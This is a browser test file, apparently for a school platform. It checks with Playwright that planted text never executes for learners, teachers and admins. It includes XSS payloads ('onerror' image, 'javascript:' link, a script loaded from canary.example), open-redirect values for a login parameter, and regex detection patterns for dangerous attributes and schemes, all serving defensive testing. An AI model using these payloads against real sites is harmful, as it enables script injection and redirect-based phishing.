"""T11: whatever people write, nothing of it acts: looked at in Chromium as learner, teacher, guardian,
SEND lead and school admin, in a school where every text, file name, caption and paper wants to act.

The policy of the pages (CSP) only reports here, so that an escaping that fails is not covered up by
it: a script that runs is counted, and so is a report.
"""

import json
import shutil
import subprocess
import sys
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from urllib.parse import quote, urlsplit

import pytest
from playwright.sync_api import Browser, BrowserContext, Error, Page, Route

from tests import sinks
from tests.hostile_school import LOOKERS
from tests.house import ROOT
from tests.journeys.crawl import shape
from tests.journeys.visitor import Visitor, environment_of, served
from tests.payloads import LINES, PAYLOADS

MOST_PAGES = {"amina": 30, "okafor": 34, "haddad": 8, "reyes": 14, "farouk": 8}
ALIKE = {"amina": 18, "okafor": 5, "haddad": 3, "reyes": 3, "farouk": 3}
"""Pages of one shape, in the hostile course; elsewhere two."""
AT_ONCE = 12
NOT_OPENED = (
    "/logout/",
    "/export/",
    ".csv",
    ".zip",
    "/site-admin/",
    "/static/",
    "mailto:",
    "/password/",
    "/2fa/",
)

# What is told the moment it happens: a call of the canary, a dialog, a report of the policy.
CANARY = """() => {
  const told = (what) => window.told(String(what));
  window.canary = (n) => told('canary');
  for (const name of ['alert', 'confirm', 'prompt', 'print']) window[name] = () => told(name);
  document.addEventListener('securitypolicyviolation', (event) => told(`policy: ${event.effectiveDirective} ${event.blockedURI} ${event.sample}`));
}"""
# What would act if somebody pressed it or pointed at it, and is not ours.
WOULD_ACT = """() => {
  const bad = /^[\\s\\u0000-\\u0020]*(javascript|vbscript|data:(?!image\\/(png|webp|jpeg|gif))|blob|file|view-source|feed)\\s*:?/i;
  const found = [];
  const ours = (url) => new URL(url, location.href).origin === location.origin;
  for (const each of document.querySelectorAll('*')) {
    const tag = each.localName;
    for (const {name, value} of each.attributes) {
      if (name.startsWith('on') || name === 'srcdoc') found.push(`${tag} ${name}=${value}`);
      if (/^(xlink:)?href$|^src$|^(form)?action$|^data$|^poster$|^(data-)?hx-(get|post|put|delete)$|^url$/.test(name)
          && value.trim() && bad.test(value)) found.push(`${tag} ${name}=${value}`);
      if (/^(data-)?hx-on/.test(name)) found.push(`${tag} ${name}`);
    }
    if (tag === 'script' && !(each.src && ours(each.src)) && !/json/.test(each.type)) found.push(`script ${each.textContent.slice(0, 60)}`);
    if (['iframe', 'object', 'embed', 'base', 'portal', 'frameset', 'marquee'].includes(tag)) found.push(tag);
    if (tag === 'form' && !ours(each.action)) found.push(`form ${each.action}`);
    if (tag === 'style' || (each.getAttribute('style') ?? '').includes('url(')) found.push(`${tag} style`);
  }
  return found;
}"""
POKE = """() => {
  for (const each of document.querySelectorAll('details')) each.open = true;
  for (const each of document.querySelectorAll('main *')) {
    for (const name of ['mouseover', 'pointerenter', 'focusin', 'toggle', 'animationstart', 'beforetoggle'])
      each.dispatchEvent(new Event(name, {bubbles: false}));
  }
  return document.documentElement.innerHTML.split('canary').length - 1;
}"""
LINKS = "() => [...document.querySelectorAll('a[href]')].map((each) => each.href)"


@dataclass
class Looker:
    """One person with the eyes open. acted: what ran, was asked for, or was reported."""

    who: str
    visitor: Visitor
    acted: list[str] = field(default_factory=list)
    looked: list[str] = field(default_factory=list)
    quoted: int = 0

    @property
    def page(self) -> Page:
        return self.visitor.page

    def look(self, where: str = "") -> None:
        """Go through what stands here now."""
        try:
            self.quoted += self.page.evaluate(POKE)
            found = self.page.evaluate(WOULD_ACT)
        except Error as failure:
            found = [f"the page went away: {failure.message[:80]}"]
        here = where or self.page.url.removeprefix(self.visitor.site)
        self.looked.append(here)
        self.acted += [f"{here}: {each[:160]}" for each in found]

    def go(self, path: str) -> None:
        before = len(self.acted)
        answer = self.page.goto(self.visitor.site + path, wait_until="load")
        if answer and answer.status >= 500:
            self.acted.append(f"{answer.status} {path}")
        self.look(path)
        self.acted[before:] = [
            each if path in each else f"{path}: {each}" for each in self.acted[before:]
        ]


@pytest.fixture(scope="module")
def hostile(school: Path, tmp_path_factory) -> Iterator[tuple[str, dict]]:
    """A served demo school, full of it; and what was planted where."""
    folder = Path(shutil.copytree(school, tmp_path_factory.mktemp("hostile"), dirs_exist_ok=True))
    env = environment_of(folder)
    ran = subprocess.run(
        [sys.executable, "-m", "tests.hostile_school"],
        cwd=ROOT, env=env, capture_output=True, text=True, check=False,
    )  # fmt: skip
    assert ran.returncode == 0, ran.stderr[-3000:]
    with served(env) as address:
        yield address, json.loads(ran.stdout.splitlines()[-1])


@pytest.fixture
def looker(browser: Browser, hostile):
    """`looker("amina")`: signed in, with the policy turned to a report."""
    contexts: list[BrowserContext] = []
    site, _planted = hostile

    def come(who: str) -> Looker:
        context = browser.new_context(
            viewport={"width": 1280, "height": 900}, reduced_motion="reduce"
        )
        contexts.append(context)
        context.set_default_timeout(60_000)
        someone = Looker(who, Visitor(context, site, {}))
        watch(context, someone.acted, site)
        someone.visitor.sign_in(who)
        return someone

    yield come
    for context in contexts:
        context.close()


def watch(context: BrowserContext, acted: list[str], site: str, report: bool = True) -> None:
    """Note a call, a dialog, a report, and a request for what only a payload asks for."""
    context.expose_binding("told", lambda _source, what: acted.append(what))
    context.add_init_script(f"({CANARY})()")
    context.on("dialog", lambda dialog: (acted.append("dialog"), dialog.dismiss()))
    context.on("request", lambda request: asked(request.url, request.is_navigation_request()))

    def asked(url: str, navigation: bool) -> None:
        away = not url.startswith((site, "data:image", "blob:" + site, "about:blank"))
        if away or urlsplit(url).path.startswith("/canary"):
            acted.append(f"asked for {url[:80]}")

    def reporting(route: Route) -> None:
        if route.request.resource_type != "document":
            return route.continue_()
        reply = route.fetch(max_redirects=0)
        headers = dict(reply.headers)
        if policy := headers.pop("content-security-policy", ""):
            headers["content-security-policy-report-only"] = policy
        return route.fulfill(response=reply, headers=headers)

    if report:
        context.route(lambda url: url.startswith(site), reporting)


@pytest.mark.promise("T11")
@pytest.mark.parametrize("who", LOOKERS)
def test_nothing_that_people_wrote_acts(looker, hostile, who: str, figure):
    _site, planted = hostile
    someone = looker(who)
    crawl(someone, planted, ALIKE[who], MOST_PAGES[who])
    with_words_in_the_address(someone)
    search(someone)
    figure(
        f"{who}: {len(PAYLOADS)} payloads in {len(planted['filled'])} columns and the files of a course, "
        f"{len(someone.looked)} pages looked at, quoted {someone.quoted} times: {len(someone.acted)} act"
    )
    assert len(PAYLOADS) >= 200
    assert someone.quoted > 300
    assert not someone.acted, "\n".join(someone.acted[:20])


def first_pages(who: str, planted: dict) -> list[str]:
    """Where the words are thickest; what else there is, links lead to."""
    course, offering, cohort = planted["course"], planted["offering"], planted["cohort"]
    work = f"/courses/{course}/writing/"
    lessons = f"{work}lessons/"
    return {
        "amina": [f"/learn/{offering}/", f"/learn/{offering}/words-0/", f"/learn/{offering}/kind-choice/",
                  "/notebook/", f"/learn/{offering}/units/kinds/paper/"],
        "okafor": [f"/classes/{offering}/", f"/courses/{course}/", work, f"{lessons}words-0/",
                   f"{lessons}kind-choice/?part=kind-choice-text", f"{lessons}kind-choice/?part=choice-0",
                   f"{lessons}words-0/versions/", f"{lessons}words-0/?front", f"{work}publishing/",
                   f"/people/cohorts/{cohort}/"],
        "haddad": [],
        "reyes": ["/school/"],
        "farouk": [],
    }[who]  # fmt: skip


def crawl(someone: Looker, planted: dict, alike: int, most: int) -> None:
    """The thickest pages, then what links lead to: `alike` pages of one shape of the hostile
    course, of others two, `most` in all."""
    waiting = [*first_pages(someone.who, planted), "/"]
    seen: set[str] = set()
    shapes: dict[str, int] = {}
    tricks = (f"/learn/{planted['offering']}/", f"/courses/{planted['course']}/writing/")
    while waiting and len(someone.looked) < most:
        path = waiting.pop(0)
        kind = shape(urlsplit(path).path)
        few = alike if path.startswith(tricks) and "/units/" not in path else 2
        if path in seen or shapes.get(kind, 0) >= few or any(no in path for no in NOT_OPENED):
            continue
        if path.count("/files/") or "/asset" in path:
            continue
        seen.add(path)
        shapes[kind] = shapes.get(kind, 0) + 1
        someone.go(path)
        site = someone.visitor.site
        found = [
            each.removeprefix(site)
            for each in someone.page.evaluate(LINKS)
            if each.startswith(site)
        ]
        mine = [each.split("#")[0] for each in found]
        waiting = [each for each in mine if each.startswith(tricks)] + waiting + mine


def with_words_in_the_address(someone: Looker) -> None:
    """Every name that any page reads from its address, full of it, on each shape of page."""
    names = sorted({name for name, _where in sinks.query_names()} - {"next"})
    pages = {shape(urlsplit(each).path): urlsplit(each).path for each in someone.looked}
    for at, path in enumerate(sorted(pages.values())):
        words = quote(" ".join(LINES[(at * 5) % len(LINES) :][:5]))
        someone.go(f"{path}?" + "&".join(f"{name}={words}" for name in names))
    for each in (
        "//canary.example",
        "javascript:canary(1)",
        "\\\\canary.example",
        "/\\canary.example",
    ):
        someone.go(f"/account/login/?next={quote(each)}")


def search(someone: Looker) -> None:
    """What is looked for is said again; what is found is quoted; suggestions are drawn by a script."""
    for at in range(0, len(LINES), AT_ONCE * 4):
        someone.go(f"/search/?q={quote(' '.join(LINES[at : at + AT_ONCE]))}")
    someone.go("/search/?q=canary")
    for line in LINES[:3]:
        someone.page.locator("main [name=q]").first.fill(line[:40])
        someone.page.wait_for_timeout(350)
        someone.look(f"suggestions of {line[:20]}")


# ── It can fail ────────────────────────────────────────────────────────────────────────────────


@pytest.mark.promise("T11")
@pytest.mark.parametrize("policy", [True, False], ids=["with the policy", "without it"])
@pytest.mark.parametrize(
    ("planted", "seen"),
    [
        ("<img src=x onerror=canary(1)>", ("canary", "policy: script-src-attr")),
        ("<a href='javascript:canary(1)'>x</a>", ("a href=javascript:canary(1)",) * 2),
        ("<script src=//canary.example/x.js></script>", ("asked for", "policy: script-src-elem")),
    ],
)
def test_a_planted_name_that_is_not_escaped_is_seen(
    browser: Browser, hostile, policy, planted, seen
):
    """As if a template said `name|safe`: caught by what runs, and with the policy on by its report."""
    site, _ = hostile
    context = browser.new_context()
    someone = Looker("nobody", Visitor(context, site, {}))
    watch(context, someone.acted, site, report=False)

    def unescaped(route: Route) -> None:
        if not route.request.url.startswith(site):
            return route.abort()
        reply = route.fetch()
        headers = {k: v for k, v in reply.headers.items() if policy or "security-policy" not in k}
        return route.fulfill(response=reply, headers=headers, body=reply.text().replace("</h1>", f"{planted}</h1>"))  # fmt: skip

    context.route("**/account/login/", unescaped)
    context.route("**//canary.example/**", lambda route: route.abort())
    someone.go("/account/login/")
    someone.page.wait_for_timeout(300)
    context.close()
    assert any(seen[policy] in each for each in someone.acted), someone.acted
